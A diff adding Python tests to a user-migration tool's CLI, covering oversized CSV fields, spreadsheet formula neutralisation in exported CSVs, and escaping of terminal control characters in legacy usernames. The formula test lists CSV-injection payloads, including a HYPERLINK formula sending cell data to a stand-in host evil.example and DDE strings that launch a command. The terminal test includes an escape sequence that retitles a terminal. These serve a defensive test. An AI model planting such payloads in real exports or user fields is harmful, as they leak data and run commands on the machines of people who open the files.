@@ -31,7 +31,7 @@ from sqlalchemy import text
 
 from proxy_app import bulk, cli
 from proxy_app.config import Config
-from proxy_app.legacy import LegacyUnavailable
+from proxy_app.legacy import LegacyUnavailable, LegacyUser
 from proxy_app.legacy.sql import SqlSource
 from proxy_app.records import Records
 
@@ -522,6 +522,24 @@ def test_a_csv_without_a_username_column_is_refused_before_anything_is_created(
     assert pool_users(cognito, fresh_pool) == []
 
 
+def test_a_csv_field_over_128_kib_is_reported_as_such_not_as_a_bad_encoding(
+    app: Flask, fresh_pool: Pool, cognito: Any, tmp_path: Path
+) -> None:
+    source = tmp_path / "users.csv"
+    huge = "x" * (128 * 1024 + 1)
+    source.write_text(f"username,name\nann,Ann\nbob,{huge}\n", encoding="utf-8")
+    result = invoke(app, "import", *FAST, "--csv", str(source))
+    assert result.exit_code == 1
+    assert error_line(result) == (
+        "Error: legacy user store: users.csv: a field on line 3 is over 128 KiB"
+    )
+    assert huge[:100] not in result.output
+    assert pool_users(cognito, fresh_pool) == []
+    # Read past the count too (a file changed since): the same answer.
+    with pytest.raises(bulk.UnreadableCsv, match="a field on line 3 is over 128 KiB"):
+        list(bulk.csv_users(source, emails_verified=False))
+
+
 def test_an_account_deleted_through_the_service_is_not_brought_back(
     make_app: Callable[..., Flask],
     fresh_pool: Pool,
@@ -725,6 +743,55 @@ def test_export_names_attributes_the_pool_lacks(
     assert "not in the pool's schema, left out: custom:shoe_size (1)" in result.stderr
 
 
+def test_an_exported_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(
+    make_app: Callable[..., Flask], fresh_pool: Pool, store: Store, tmp_path: Path
+) -> None:
+    formulas = [
+        '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "+1 555 123 4567",  # not E.164: no exception for it
+    ]
+    inert = ["+15551234567", "-42", "+3.5", "12", "Ada", "ada@example.com", ""]
+    users = [
+        LegacyUser(f"user-{number}", {"name": value, "phone_number": value})
+        for number, value in enumerate(formulas + inert)
+    ]
+    users.append(LegacyUser("=evil()", {"custom:tier": "-gold"}))
+    schema = bulk.PoolSchema(custom=("custom:tier",), required=frozenset())
+    out = io.StringIO()
+    export = bulk.write_cognito_csv(schema, users, out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    assert len(rows) == len(users)  # a carriage return in a value ends no row
+    for row, value in zip(rows, formulas + inert, strict=False):
+        expected = value if value in inert else "'" + value
+        assert (row["name"], row["phone_number"]) == (expected, expected)
+    assert (rows[-1]["cognito:username"], rows[-1]["custom:tier"]) == ("'=evil()", "'-gold")
+    assert export.quoted == {
+        "name": len(formulas),
+        "phone_number": len(formulas),
+        "cognito:username": 1,
+        "custom:tier": 1,
+    }
+
+    # The command names the columns, so the values can be corrected at their source.
+    app = make_app(
+        fresh_pool,
+        legacy_database_url=store.url,
+        legacy_user_query=store.user_query(),
+        legacy_users_query="SELECT login AS username, given_name AS name FROM users",
+    )
+    store.add_user("ann", None, given_name="=1+1")
+    result = invoke(app, "export-cognito-csv", "-o", str(tmp_path / "out.csv"))
+    assert result.exit_code == 0
+    assert "written after a ' (an import job keeps it" in result.stderr
+    assert result.stderr.splitlines()[0].endswith(": name (1)")
+    assert "'=1+1" in (tmp_path / "out.csv").read_text(encoding="utf-8")
+
+
 # --- migration-status -------------------------------------------------------------------
 
 
@@ -782,6 +849,17 @@ def test_migration_status_counts_who_has_moved(
 
     as_json = json.loads(invoke(app, "migration-status", "--list", "--json").stdout)
     assert as_json["users"][3] == {"username": logins[3], "status": "ABSENT"}
+
+
+def test_migration_status_prints_terminal_escapes_in_legacy_usernames_as_text(
+    app: Flask, store: Store
+) -> None:
+    store.add_user("eve\x1b]0;pwned\x07\u202e", None, email="eve@example.com")
+    listed = invoke(app, "migration-status", "--list").stdout
+    assert listed.splitlines()[0] == "eve\\x1b]0;pwned\\x07\\u202e  ABSENT"
+    assert not any(character in listed for character in ("\x1b", "\x07", "\u202e"))
+    as_json = json.loads(invoke(app, "migration-status", "--list", "--json").stdout)
+    assert as_json["users"] == [{"username": "eve\x1b]0;pwned\x07\u202e", "status": "ABSENT"}]
 
 
 def test_migration_status_finds_users_of_a_pool_that_signs_in_by_email(
